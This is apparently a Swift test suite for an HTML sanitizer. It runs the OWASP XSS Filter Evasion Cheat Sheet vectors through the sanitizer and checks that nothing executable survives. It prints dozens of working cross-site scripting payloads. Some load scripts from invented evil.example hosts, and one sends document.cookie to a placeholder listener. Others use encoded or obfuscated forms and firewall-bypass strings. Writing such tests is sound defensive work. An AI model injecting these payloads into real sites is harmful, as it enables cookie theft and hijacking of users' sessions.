import Markup
import Testing

/// The vectors of the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org), each in the form in which it
/// would come in an entry, with invented hosts. What counts is what another parser finds in the output.
@Suite("Filter evasion")
struct FilterEvasionTests {
  static let base = "https://hill.example/news/1"

  func check(_ vector: String) {
    let safe = HTMLSanitizer.safeHTML(vector, base: Self.base)
    #expect(ShownMarkup(safe).violations == [], "\(vector) → \(safe)")
    #expect(ShownMarkup.imbalance(safe) == nil, "\(vector) → \(safe)")
    #expect(HTMLSanitizer.safeHTML(safe, base: Self.base) == safe, "\(vector) → \(safe)")
    let unbased = HTMLSanitizer.safeHTML(vector, base: nil)
    #expect(ShownMarkup(unbased).violations == [], "\(vector) → \(unbased)")
  }

  @Test(arguments: [
    #"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"#,
    "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    #"\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>"#, #"<a onmouseover="alert(document.cookie)">xxs</a>"#,
    #"\<a onmouseover=alert(document.cookie)\>xxs link\</a\>"#, #"<a onmouseover=alert(document.cookie)>xxs</a>"#,
    #"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#, "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    #"<IMG SRC=# onmouseover="alert('xxs')">"#, #"<IMG SRC= onmouseover="alert('xxs')">"#,
    #"<IMG onmouseover="alert('xxs')">"#, #"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"#,
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=java\0script:alert(\"XSS\")>", "<IMG SRC=java%00script:alert(\"XSS\")>",
    "<IMG SRC=\"java\u{AD}script:alert(1)\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">", "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", "<SCRIPT/SRC=\"http://evil.example/xss.js\"></SCRIPT>",
    #"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#, "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    #"<IMG SRC="`<javascript:alert>`('XSS')""#, #"<IMG SRC="`('XSS')"<b>below</b>"#,
    "<iframe src=http://evil.example/s.html <",
    "<iframe src=http://evil.example/s.html <p>below</p>", #"\";alert('XSS');//"#,
    "</script><script>alert('XSS');</script>",
    #"<SCRIPT>var a="\\";alert('XSS');//";</SCRIPT>"#, #"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#,
    #"<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">"#, #"<BODY BACKGROUND="javascript:alert('XSS')">"#,
    #"<IMG DYNSRC="javascript:alert('XSS')">"#, #"<IMG LOWSRC="javascript:alert('XSS')">"#,
    #"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
    #"<IMG SRC='vbscript:msgbox("XSS")'>"#, #"<IMG SRC="livescript:[code]">"#, "<svg/onload=alert('XSS')>",
    "Set.constructor`alert\\x28document.domain\\x29", "<BODY ONLOAD=alert('XSS')>", "<BODY ONLOAD =alert('XSS')>",
  ])
  func `basic vectors leave nothing that acts`(_ vector: String) { check(vector) }

  @Test(arguments: [
    #"<BGSOUND SRC="javascript:alert('XSS');">"#, #"<BR SIZE="&{alert('XSS')}">"#,
    #"<LINK REL="stylesheet" HREF="javascript:alert('XSS');">"#,
    #"<LINK REL="stylesheet" HREF="http://evil.example/x.css">"#,
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    #"<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">"#,
    #"<STYLE>BODY{-moz-binding:url("http://evil.example/xssmoz.xml#xss")}</STYLE>"#,
    #"<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>"#, #"<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">"#,
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    #"<STYLE TYPE="text/javascript">alert('XSS');</STYLE>"#,
    #"<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>"#,
    #"<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>"#,
    #"<STYLE type="text/css">BODY{background:url("<javascript:alert>('XSS')")}</STYLE>"#,
    #"<XSS STYLE="xss:expression(alert('XSS'))">"#, #"<XSS STYLE="behavior: url(xss.htc);">"#,
    "¼script¾alert(¢XSS¢)¼/script¾",
    #"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#,
    #"<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">"#,
    #"<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">"#,
    #"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#,
    #"<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>"#,
    #"<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>"#, #"<TABLE BACKGROUND="javascript:alert('XSS')">"#,
    #"<TABLE><TD BACKGROUND="javascript:alert('XSS')">"#,
    #"<DIV STYLE="background-image: url(javascript:alert('XSS'))">"#,
    #"<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073'\0029">"#,
    "<DIV STYLE=\"background-image: url(\u{1}javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image: url(\u{3000}javascript:alert('XSS'))\">",
    #"<DIV STYLE="width: expression(alert('XSS'));">"#,
    "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
    "<![if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]>",
    #"<BASE HREF="javascript:alert('XSS');//"><img src="a.png">"#,
    #"<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/s.html"></OBJECT>"#,
    #"<EMBED SRC="http://evil.example/xss.swf" AllowScriptAccess="always"></EMBED>"#,
    #"<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>"#,
    "a=\"get\";\nb=\"URL(\\\"\";\nc=\"javascript:\";\nd=\"alert('XSS');\\\")\";\neval(a+b+c+d);",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>\n<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<XML SRC=\"xsstest.xml\" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
    "<HTML><BODY>\n<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">\n<?import namespace=\"t\" implementation=\"#default#time2\">\n<t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(\"XSS\")</SCRIPT>\">\n</BODY></HTML>",
    #"<SCRIPT SRC="http://evil.example/xss.jpg"></SCRIPT>"#,
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://evil.example/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    #"<IMG SRC="http://hill.example/somecommand.php?somevariables=maliciouscode">"#,
    "Redirect 302 /a.jpg http://hill.example/admin.asp&deleteuser",
    #"<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">"#,
    #"<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-"#,
  ])
  func `styles, plug-ins, data islands and includes go`(_ vector: String) { check(vector) }

  @Test(arguments: [
    #"<SCRIPT a=">" SRC="httx://evil.example/xss.js"></SCRIPT>"#,
    #"<SCRIPT =">" SRC="httx://evil.example/xss.js"></SCRIPT>"#,
    #"<SCRIPT a=">" '' SRC="httx://evil.example/xss.js"></SCRIPT>"#,
    #"<SCRIPT "a='>'" SRC="httx://evil.example/xss.js"></SCRIPT>"#,
    #"<SCRIPT a=`>` SRC="httx://evil.example/xss.js"></SCRIPT>"#,
    #"<SCRIPT a=">'>" SRC="httx://evil.example/xss.js"></SCRIPT>"#,
    #"<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://evil.example/xss.js"></SCRIPT>"#,
    #"<A HREF="http://66.102.7.147/">XSS</A>"#,
    #"<A HREF="http://%77%77%77%2E%65%76%69%6C%2E%65%78%61%6D%70%6C%65">XSS</A>"#,
    #"<A HREF="http://1113982867/">XSS</A>"#, #"<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>"#,
    #"<A HREF="http://0102.0146.0007.00000223/">XSS</A>"#,
    #"<img onload="eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU='))">"#,
    "<A HREF=\"h \ntt  p://6\t6.000146.0x7.147/\">XSS</A>", #"<A HREF="//www.evil.example/">XSS</A>"#,
    #"<A HREF="\\www.evil.example/">XSS</A>"#,
    #"<A HREF="//evil">XSS</A>"#, #"<A HREF="http://ha.example@evil">XSS</A>"#,
    #"<A HREF="http://evil:ha.example">XSS</A>"#,
    #"<A HREF="http://evil.example/">XSS</A>"#, #"<A HREF="http://www.evil.example./">XSS</A>"#,
    #"<A HREF="javascript:document.location='http://www.evil.example/'">XSS</A>"#,
    #"<A HREF="http://www.evil.example/ogle.com/">XSS</A>"#, "<A HREF=\"java&\\#x09;script:alert(1)\">XSS</A>",
    #"a href="/Share?content_type=1&title=<%=Encode.forHtmlAttribute(untrusted content title)%>">Share</a>"#,
    "<script>\nvar contentType = <%=Request.getParameter(\"content_type\")%>;\nvar title = \"<%=x%>\";\n</script>",
    #"<a href="/share?content_type=1&title=This is a regular title&amp;content_type=1;alert(1)">Share</a>"#,
    "<script>\nvar contentType = 1; alert(1);\nvar title = \"This is a regular title\";\n</script>",
    #"<script> ... setTimeout(\"writetitle()\",$_GET[xss]) ... </script>"#,
    "<script> ... eval($_GET[xss]); ... </script>",
    "/?param=<javascript:alert(document.cookie>)",
    "/?param=<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
  ])
  func `quotes and addresses that confuse leave nothing that acts`(_ vector: String) { check(vector) }

  @Test(arguments: [
    #"<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">"#,
    #"<Video> <source onerror = "javascript: alert (XSS)">"#,
    #"<Input value = "XSS" type = text>"#, #"<applet code="javascript:confirm(document.cookie);">"#,
    #"<isindex x="javascript:" onmouseover="alert(XSS)">"#,
    #""></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>"#,
    #""><img src="x:x" onerror="alert(XSS)">"#, #""><iframe src="javascript:alert(XSS)">"#,
    #"<object data="javascript:alert(XSS)">"#,
    "<isindex type=image src=1 onerror=alert(XSS)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    #"<img  src="x:gif" onerror="window['al\u0065rt'](0)"></img>"#,
    #"<iframe/src="data:text/html,<svg onload=alert(1)>">"#,
    #"<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>"#,
    "<svg><script xlink:href=data&colon;,window.open('https://www.evil.example/')></script",
    #"<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">"#,
    "<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>",
    #"<form><a href="javascript:\u0061lert(1)">X"#,
    #"</script><img/*%00/src="worksinchrome&colon;prompt(1)"/%00*/onerror='eval(src)'>"#,
    "<style>//*{x:expression(alert(/xss/))}//<style></style>", #"<img src="/" =_=" title="onerror='prompt(1)'">"#,
    "<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe",
    "<script x> alert(1) </script 1=2", "<form><button formaction=javascript&colon;alert(1)>CLICKME",
    #"<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;""#,
    #"<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>"#,
    #"<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>"#,
    "(alert)(1)", "a=alert,a(1)", "[1].find(alert)", "top[“al”+”ert”](1)", "top[/al/.source+/ert/.source](1)",
    "al\\u0065rt(1)",
    "top[‘al\\145rt’](1)", "top[‘al\\x65rt’](1)", "top[8680439..toString(30)](1)", "alert?.()", "`${alert``}`",
    "(alert())",
  ])
  func `strings that bypass firewalls leave nothing that acts`(_ vector: String) { check(vector) }

  /// The list's table of event handlers.
  private static let events = """
    Abort Activate AfterPrint AfterUpdate BeforeActivate BeforeCopy BeforeCut BeforeDeactivate BeforeEditFocus BeforePaste
    BeforePrint BeforeUnload BeforeUpdate Begin Blur Bounce CellChange Change Click ContextMenu ControlSelect Copy Cut
    DataAvailable DataSetChanged DataSetComplete DblClick Deactivate Drag DragEnd DragLeave DragEnter DragOver DragDrop
    DragStart Drop End Error ErrorUpdate FilterChange Finish Focus FocusIn FocusOut HashChange Help Input KeyDown KeyPress
    KeyUp LayoutComplete Load LoseCapture MediaComplete MediaError Message MouseDown MouseEnter MouseLeave MouseMove MouseOut
    MouseOver MouseUp MouseWheel Move MoveEnd MoveStart Offline Online OutOfSync Paste Pause PopState Progress PropertyChange
    ReadyStateChange Redo Repeat Reset Resize ResizeEnd ResizeStart Resume Reverse RowsEnter RowExit RowDelete RowInserted
    Scroll Seek Select SelectionChange SelectStart Start Stop Storage SyncRestored Submit TimeError TrackChange Undo Unload
    URLFlip
    """.split { $0 == " " || $0 == "\n" }.map(String.init)

  @Test func `no event handler stays on any element`() {
    for event in Self.events + ["FSCommand", "seekSegmentTime"] {
      for name in ["on" + event, event] {
        check(
          "<img src=\"a.png\" \(name)=\"alert(1)\"><b \(name)='alert(1)'>x</b><body \(name)=alert(1)><svg \(name)=alert(1)>"
        )
      }
    }
  }

  /// The list's ways to write `<`.
  @Test func `an escaped bracket begins no tag`() {
    var forms = ["<", "%3C", "&lt", "&lt;", "&LT", "&LT;", "\\x3c", "\\x3C", "\\u003c", "\\u003C"]
    for digits in ["60", "x3c", "x3C", "X3c", "X3C"] {
      let mark = digits.first == "6" ? "" : String(digits.prefix(1))
      for zeros in 0...5 {
        let number = "&#" + mark + String(repeating: "0", count: zeros) + digits.dropFirst(mark.count)
        forms += [number, number + ";"]
      }
    }
    for form in forms {
      check(form + "script>alert(1)" + form + "/script>")
      if form != "<" {
        let safe = HTMLSanitizer.safeHTML(form + "q>x", base: nil)
        #expect(ShownMarkup(safe).elements.isEmpty && ShownMarkup(safe).text.hasSuffix("q>x"), "\(form)")
      }
    }
  }
}
